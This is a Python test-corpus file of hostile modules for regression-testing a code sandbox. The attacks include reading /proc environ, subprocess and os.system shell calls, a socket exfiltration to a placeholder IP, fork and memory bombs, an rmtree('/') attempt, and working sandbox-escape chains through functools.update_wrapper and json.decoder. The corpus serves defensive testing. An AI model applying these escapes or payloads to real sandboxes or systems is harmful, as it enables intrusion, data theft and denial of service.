"""The hostile-code corpus: small, complete environment modules (as source text) that try to
escape or exhaust the sandbox, each with the outcome the sandbox must produce.

Two kinds of expected outcome:

- ``static_reject``: :func:`..static_check.static_check` must flag the module; ``violations``
  lists substrings that must appear among the reported violations. These never execute.
- ``runtime_stop``: the module *passes* the static check, so only the worker process can stop it
  (its wall-clock alarm, address-space limit, being killed by the parent, crashing, or answering
  with a structured error). ``errors`` lists the accepted error types (see :func:`.runner.run_sample`
  for how they are named) and ``stage`` says where it must be stopped: ``module`` (executing the
  module in ``load_environment``), ``load`` (``load`` in ``open_episode``), ``call`` (the tool
  call) or ``save``.

Payloads are written to *attempt* real damage (they are the point of the corpus) but anything that
would touch the host outside the worker writes only to the path given in the ``canary``
argument, which the runner points at a fresh temporary directory and checks afterwards.

:data:`KNOWN_ESCAPES` holds modules that currently get through both the static check and the
worker (found while building this corpus); they are kept apart from :data:`SAMPLES` so the corpus
stays a statement of what is contained.
"""

from __future__ import annotations

import dataclasses
from typing import Any

STATIC_REJECT = "static_reject"
RUNTIME_STOP = "runtime_stop"
#: The OS layer must contain it: any stage may stop it, every containment probe must stay clean.
OS_CONTAINED = "os_contained"
ESCAPED = "escaped"

# Replaced by the runner with a path inside a fresh temporary directory.
CANARY = "<canary>"
# Replaced by the containment runner (:mod:`.containment`) with its probes' values: the paths of the
# planted secret files, the port of the parent's loopback listener, the token a left-behind process
# would carry. In a module's source the same values replace ``__CANARY__``, ``__SECRETS__``,
# ``__PORT__`` and ``__MARKER__`` (for payloads that run while the module loads).
SECRETS = "<secrets>"
PORT = "<port>"
MARKER = "<marker>"

_LOAD_SAVE = """

def load(data):
    if not isinstance(data, dict):
        raise ValueError("state must be an object")
    return {"tables": dict(data.get("tables", {})), "meta": dict(data.get("meta", {}))}


def save(state):
    return {"tables": dict(state["tables"]), "meta": dict(state["meta"])}
"""


def environment(body: str, *, imports: str = "", contract: str = _LOAD_SAVE) -> str:
    """A complete environment module: ``imports``, the contract functions, then ``body``."""
    head = f"{imports.strip()}\n" if imports.strip() else ""
    return f'"""Hostile environment (test corpus)."""\n{head}{contract}\n\n{body.strip()}\n'


@dataclasses.dataclass(frozen=True)
class HostileSample:
    """One hostile environment module and the outcome the sandbox must produce.

    Attributes:
        name: unique identifier (also used in the env id).
        category: what it attacks, e.g. ``"file access"``, ``"CPU exhaustion"``.
        description: the attack in one sentence.
        expected: :data:`STATIC_REJECT` or :data:`RUNTIME_STOP`.
        source: the module's complete source text.
        stage: for runtime stops, where the stop must happen: ``module``, ``load``, ``call``, ``save``.
        tool: the tool the runner calls.
        arguments: the call's arguments; the value :data:`CANARY` becomes a canary file path.
        errors: for runtime stops, the accepted error types (more than one only where the limit that
            strikes first legitimately varies).
        violations: for static rejects, substrings that must appear among the violations.
        probe_sensitive: the attack is one the containment probes detect when it succeeds (it reads
            the planted secrets, writes the canary, connects, or leaves a process); these samples
            form the negative control, run with the OS layer off.
    """

    name: str
    category: str
    description: str
    expected: str
    source: str
    stage: str = "call"
    tool: str = "attack"
    arguments: dict[str, Any] = dataclasses.field(default_factory=dict)
    errors: tuple[str, ...] = ()
    violations: tuple[str, ...] = ()
    probe_sensitive: bool = False

    def __post_init__(self) -> None:
        if self.expected not in (STATIC_REJECT, RUNTIME_STOP, OS_CONTAINED):
            raise ValueError(f"{self.name}: expected must be static_reject, runtime_stop or os_contained")
        if self.expected == STATIC_REJECT and not self.violations:
            raise ValueError(f"{self.name}: a static_reject sample needs expected violations")
        if self.expected == RUNTIME_STOP and not self.errors:
            raise ValueError(f"{self.name}: a runtime_stop sample needs expected error types")
        if self.stage not in ("module", "load", "call", "save"):
            raise ValueError(f"{self.name}: unknown stage {self.stage!r}")


def _static(name: str, category: str, description: str, source: str, *violations: str, **kw: Any) -> HostileSample:
    return HostileSample(name, category, description, STATIC_REJECT, source, violations=violations, **kw)


def _runtime(name: str, category: str, description: str, source: str, *errors: str, **kw: Any) -> HostileSample:
    return HostileSample(name, category, description, RUNTIME_STOP, source, errors=errors, **kw)


# ---------------------------------------------------------------------------------------------
# Stopped by the static check (never executed).
# ---------------------------------------------------------------------------------------------
_STATIC_SAMPLES = [
    _static(
        "read_process_environment",
        "file access",
        "reads the worker's environment variables through /proc with the open() builtin",
        environment("""
def attack(state):
    with open("/proc/self/environ", "rb") as handle:
        return {"environ": handle.read().decode("latin-1")}
"""),
        "use of 'open' is not allowed",
    ),
    _static(
        "write_file_with_pathlib",
        "file access",
        "writes a file outside the sandbox with pathlib instead of open()",
        environment(
            """
def attack(state, canary):
    Path(canary).write_text("escaped")
    return {"written": canary}
""",
            imports="from pathlib import Path",
        ),
        "import from 'pathlib' is not allowed",
        arguments={"canary": CANARY},
    ),
    _static(
        "shell_via_subprocess",
        "process/exec",
        "runs a shell command through subprocess",
        environment(
            """
def attack(state, canary):
    done = subprocess.run(["sh", "-c", "id > " + canary], capture_output=True, check=False)
    return {"status": done.returncode}
""",
            imports="import subprocess",
        ),
        "import of 'subprocess' is not allowed",
        arguments={"canary": CANARY},
    ),
    _static(
        "os_system_through_builtins",
        "process/exec",
        "fetches the real __import__ from the __builtins__ mapping to reach os.system",
        environment("""
def attack(state, canary):
    os_module = __builtins__["__import__"]("os")
    return {"status": os_module.system("touch " + canary)}
"""),
        "use of dunder name '__builtins__' is not allowed",
        "dunder string constant '__import__' is not allowed",
        arguments={"canary": CANARY},
    ),
    _static(
        "network_exfiltration",
        "network",
        "opens a TCP connection and sends the state out",
        environment(
            """
def attack(state):
    with socket.create_connection(("198.51.100.7", 443), timeout=1) as conn:
        conn.sendall(repr(state).encode())
    return {"sent": True}
""",
            imports="import socket",
        ),
        "import of 'socket' is not allowed",
    ),
    _static(
        "fork_bomb",
        "fork/thread bomb",
        "forks processes without bound",
        environment(
            """
def attack(state):
    while True:
        os.fork()
""",
            imports="import os",
        ),
        "import of 'os' is not allowed",
    ),
    _static(
        "thread_bomb",
        "fork/thread bomb",
        "starts busy threads without bound (threads would also dodge the main-thread alarm)",
        environment(
            """
def _spin():
    while True:
        pass


def attack(state):
    while True:
        threading.Thread(target=_spin, daemon=True).start()
""",
            imports="import threading",
        ),
        "import of 'threading' is not allowed",
    ),
    _static(
        "import_module_by_name",
        "import tricks",
        "imports a forbidden module from a string with importlib",
        environment(
            """
def attack(state):
    shutil = importlib.import_module("shu" + "til")
    shutil.rmtree("/", ignore_errors=True)
    return {}
""",
            imports="import importlib",
        ),
        "import of 'importlib' is not allowed",
    ),
    _static(
        "subclasses_through_mro",
        "object-graph walk",
        "reaches object through type(x).mro() (allowed) and then its __subclasses__ (denied)",
        environment("""
def attack(state):
    root = type(0).mro()[-1]
    names = [cls.__name__ for cls in root.__subclasses__()]
    return {"classes": names}
"""),
        "access to dunder attribute '__subclasses__' is not allowed",
    ),
    _static(
        "traceback_frame_walk",
        "object-graph walk",
        "walks from a caught exception's traceback to the engine's frame and its globals",
        environment("""
def attack(state):
    try:
        1 / 0
    except ZeroDivisionError as exc:
        frame = exc.__traceback__.tb_frame.f_back
        return {"globals": sorted(frame.f_globals)}
"""),
        "access to dunder attribute '__traceback__' is not allowed",
        "access to introspection attribute 'tb_frame' is not allowed",
        "access to introspection attribute 'f_back' is not allowed",
    ),
    _static(
        "wall_clock_read",
        "clock/randomness",
        "stamps rows with the host clock instead of meta['now']",
        environment(
            """
def attack(state):
    return {"now": time.time(), "today": dt.date.today().isoformat()}
""",
            imports="import datetime as dt\nimport time",
        ),
        "import of 'time' is not allowed",
        "clock read '.today' is not allowed",
    ),
    _static(
        "os_entropy",
        "clock/randomness",
        "draws identifiers from the OS entropy pool",
        environment(
            """
def attack(state):
    return {"id": str(uuid.uuid4()), "token": secrets.token_hex(8)}
""",
            imports="import secrets\nimport uuid",
        ),
        "import of 'secrets' is not allowed",
        "import of 'uuid' is not allowed",
    ),
    _static(
        "exec_compiled_string",
        "import tricks",
        "compiles and executes a string to get around the checked source",
        environment("""
def attack(state):
    code = compile("import os; os.listdir('/')", "<x>", "exec")
    exec(code)
    return {}
"""),
        "use of 'compile' is not allowed",
        "use of 'exec' is not allowed",
    ),
]

# ---------------------------------------------------------------------------------------------
# Passes the static check: stopped by the worker at run time.
# ---------------------------------------------------------------------------------------------
_RUNTIME_SAMPLES = [
    _runtime(
        "cpu_arithmetic_loop",
        "CPU exhaustion",
        "an unbounded pure-Python arithmetic loop",
        environment("""
def attack(state):
    total = 0
    while True:
        total = (total * 31 + 7) % 1000003
"""),
        "timeout",
    ),
    _runtime(
        "alarm_swallowed_in_finally",
        "CPU exhaustion",
        "a loop that swallows the worker's timeout with `finally: continue`, so the parent must kill it",
        environment("""
def attack(state):
    while True:
        try:
            while True:
                pass
        finally:
            continue
"""),
        "timeout",
    ),
    _runtime(
        "native_infinite_iterator",
        "infinite generators",
        "consumes itertools.count() inside C code (deque(maxlen=0)), which never checks for signals",
        environment(
            """
def attack(state):
    collections.deque(itertools.count(), maxlen=0)
    return {"done": True}
""",
            imports="import collections\nimport itertools",
        ),
        "timeout",
    ),
    _runtime(
        "infinite_generator_join",
        "infinite generators",
        "joins an endless Python generator of 1 MB strings",
        environment("""
def _chunks():
    n = 0
    while True:
        n += 1
        yield str(n % 10) * 1_000_000


def attack(state):
    return {"size": len("".join(_chunks()))}
"""),
        "memory",
    ),
    _runtime(
        "huge_power",
        "huge integers",
        "computes 10**10**8 (a 330-million-bit integer)",
        environment("""
def attack(state, exponent=10 ** 8):
    return {"mod": (10 ** exponent) % 7}
"""),
        "timeout",
    ),
    _runtime(
        "huge_integer_to_string",
        "huge integers",
        "formats a 100,000-digit integer (quadratic-time str conversion)",
        environment("""
def attack(state):
    return {"digits": len(str(7 ** 120_000))}
"""),
        "bad_arguments",  # ValueError from the interpreter's int/str digit limit
    ),
    _runtime(
        "catastrophic_regex",
        "regex backtracking",
        "matches an exponential-backtracking pattern against a near-miss",
        environment(
            """
def attack(state, text="a" * 64 + "!"):
    return {"match": bool(re.match(r"^(a+)+$", text))}
""",
            imports="import re",
        ),
        "timeout",
    ),
    _runtime(
        "single_huge_allocation",
        "memory exhaustion",
        "asks for an 8 GiB buffer in one allocation",
        environment("""
def attack(state):
    return {"size": len(bytearray(8 * 1024 ** 3))}
"""),
        "memory",
    ),
    _runtime(
        "doubling_list",
        "memory exhaustion",
        "doubles a list until the address space is exhausted",
        environment("""
def attack(state):
    rows = [0]
    while True:
        rows = rows + rows
"""),
        "memory",
    ),
    _runtime(
        "decimal_precision_bomb",
        "memory exhaustion",
        "raises the decimal context precision to MAX_PREC and divides (the context is worker-wide)",
        environment(
            """
def attack(state):
    context = decimal.getcontext()
    context.prec = decimal.MAX_PREC
    return {"value": str(decimal.Decimal(1) / decimal.Decimal(7))}
""",
            imports="import decimal",
        ),
        "memory",
    ),
    _runtime(
        "unbounded_recursion",
        "recursion",
        "mutual recursion without a base case",
        environment("""
def _ping(n):
    return _pong(n + 1)


def _pong(n):
    return _ping(n + 1)


def attack(state):
    return {"depth": _ping(0)}
"""),
        "tool_error",  # RecursionError
    ),
    _runtime(
        "native_stack_overflow",
        "recursion",
        "half a million nested map() iterators: next() recurses in C without a depth check",
        environment("""
def attack(state):
    chain = iter([1])
    for _ in range(500_000):
        chain = map(abs, chain)
    return {"value": next(chain)}
"""),
        "crash",  # SIGSEGV in the worker; the parent restarts it
    ),
    _runtime(
        "deeply_nested_output",
        "output bombs",
        "returns a list nested 100,000 levels deep",
        environment("""
def attack(state):
    value = []
    for _ in range(100_000):
        value = [value]
    return {"value": value}
"""),
        "output_not_serializable",
    ),
    _runtime(
        "gigabyte_output",
        "output bombs",
        "returns 2 GB of JSON built from one shared 1 MB string (tiny in memory, huge encoded)",
        environment("""
def attack(state):
    chunk = "x" * 1_000_000
    return {"rows": [chunk] * 2000}
"""),
        # Encoding runs out of the address space. orjson does not raise MemoryError then: the
        # worker dies (SIGSEGV), so today this is a crash.
        "crash",
        "memory",
    ),
    _runtime(
        "stderr_flood",
        "output bombs",
        "prints 64 KiB lines forever (stdout is stderr in the worker; the parent drains it)",
        environment("""
def attack(state):
    line = "x" * 65536
    while True:
        print(line)
"""),
        "timeout",
    ),
    _runtime(
        "forged_protocol_frames",
        "stdout protocol corruption",
        "prints length-prefixed success frames for request ids 1-299, then fails",
        environment(
            """
def attack(state):
    for request_id in range(1, 300):
        body = json.dumps({"id": request_id, "ok": True, "result": {"ok": True, "output": {"forged": True}}})
        print(chr(0) * 2 + chr(len(body) // 256) + chr(len(body) % 256) + body, end="", flush=True)
    raise ValueError("the real answer is an error")
""",
            imports="import json",
        ),
        "bad_arguments",  # the real response; a forged frame would read as ok -> escaped
    ),
    _runtime(
        "import_time_spin",
        "CPU exhaustion",
        "loops forever while the module itself executes (before any tool exists)",
        environment("""
def attack(state):
    return {}


while True:
    pass
"""),
        "environment_rejected",
        stage="module",
    ),
    _runtime(
        "load_memory_bomb",
        "memory exhaustion",
        "load() builds a 10-billion-element list from any state",
        environment(
            """
def attack(state):
    return {}
""",
            contract="""

def load(data):
    return {"tables": {}, "meta": {}, "index": [None] * 10 ** 10}


def save(state):
    return {"tables": state["tables"], "meta": state["meta"]}
""",
        ),
        "state_rejected",
        stage="load",
    ),
    _runtime(
        "save_spin",
        "CPU exhaustion",
        "the tool behaves, but save() never returns",
        environment(
            """
def attack(state):
    return {"ok": True}
""",
            contract="""

def load(data):
    return dict(data)


def save(state):
    while True:
        pass
""",
        ),
        "environment_fault:timeout",
        stage="save",
    ),
    _runtime(
        "exception_str_spin",
        "CPU exhaustion",
        "raises an exception whose __str__ loops forever, so the engine's own error formatting hangs",
        environment("""
class Boom(Exception):
    def __str__(self):
        while True:
            pass


def attack(state):
    raise Boom()
"""),
        "timeout",
    ),
    _runtime(
        "format_string_walk",
        "object-graph walk",
        "builds '{0.__class__.__base__.__subclasses__}' at run time (the static check cannot see it) "
        "and tries to call the result, which str.format only ever renders as text",
        environment("""
def attack(state):
    d = "_" * 2
    walk = "{0." + d + "class" + d + "." + d + "base" + d + "." + d + "subclasses" + d + "}"
    subclasses = walk.format(())
    return {"count": len(subclasses())}
"""),
        "tool_error",  # TypeError: 'str' object is not callable
    ),
]

SAMPLES: tuple[HostileSample, ...] = (*_STATIC_SAMPLES, *_RUNTIME_SAMPLES)

# ---------------------------------------------------------------------------------------------
# Escapes found while building this corpus, fixed since, kept as regression samples:
# update_wrapper_getattr (functools.update_wrapper is denied), submodule_from_import (restricted
# import refuses names its module copy lacks), three_argument_type (builtins type() takes one argument).
# ---------------------------------------------------------------------------------------------
_FIXED_ESCAPES: list[HostileSample] = [
    _static(
        "update_wrapper_getattr",
        "object-graph walk",
        "functools.update_wrapper(holder, json.dumps, assigned=('__globals__',), updated=()) performs a "
        "real getattr/setattr with a run-time-built dunder name; a class made with 3-argument type() "
        "and a computed '__setattr__' key catches the value: json's globals -> real __builtins__ -> "
        "open() and __import__('os')",
        environment(
            """
def _dunder(word):
    return "_" * 2 + word + "_" * 2


def _grab(obj, name):
    caught = []
    hooks = {_dunder("setattr"): lambda self, key, value: caught.append(value)}
    holder = type("Holder", (), hooks)()
    functools.update_wrapper(holder, obj, assigned=(name,), updated=())
    return caught[0]


def attack(state, canary):
    real_builtins = _grab(json.dumps, _dunder("globals"))[_dunder("builtins")]
    os_module = real_builtins[_dunder("import")]("os")
    with real_builtins["open"](canary, "w") as handle:
        handle.write("escaped")
    return {"pid": os_module.getpid(), "uid": os_module.getuid()}
""",
            imports="import functools\nimport json",
        ),
        "'update_wrapper' is not allowed",
        arguments={"canary": CANARY},
    ),
    _runtime(
        "submodule_from_import",
        "import tricks",
        "`from json import decoder` passes the static check (json is allowed, decoder is public); the "
        "module proxy has no `decoder`, so the interpreter's IMPORT_FROM falls back to "
        "sys.modules['json.decoder'] and hands over the REAL module: decoder.re.enum.sys.modules['os']",
        environment("""
from json import decoder


def attack(state, canary):
    os_module = decoder.re.enum.sys.modules["os"]
    handle = os_module.open(canary, os_module.O_WRONLY | os_module.O_CREAT, 0o600)
    os_module.write(handle, b"escaped")
    os_module.close(handle)
    return {"pid": os_module.getpid(), "decoder": str(decoder)}
"""),
        "environment_rejected",  # ImportError at import time, once the fallback is closed
        stage="module",
        arguments={"canary": CANARY},
    ),
    _runtime(
        "three_argument_type",
        "object-graph walk",
        "type(name, bases, namespace) with a computed '__setattr__' key would define a class hook the "
        "static check never sees; the worker's builtins only allow type(obj)",
        environment("""
def attack(state, canary):
    hooks = {"_" * 2 + "setattr" + "_" * 2: lambda self, key, value: None}
    holder = type("Holder", (), hooks)()
    return {"made": str(holder)}
"""),
        "tool_error",
        arguments={"canary": CANARY},
    ),
]

SAMPLES = (*SAMPLES, *_FIXED_ESCAPES)

#: Modules that currently get through both the static check and the worker (none known).
KNOWN_ESCAPES: tuple[HostileSample, ...] = ()
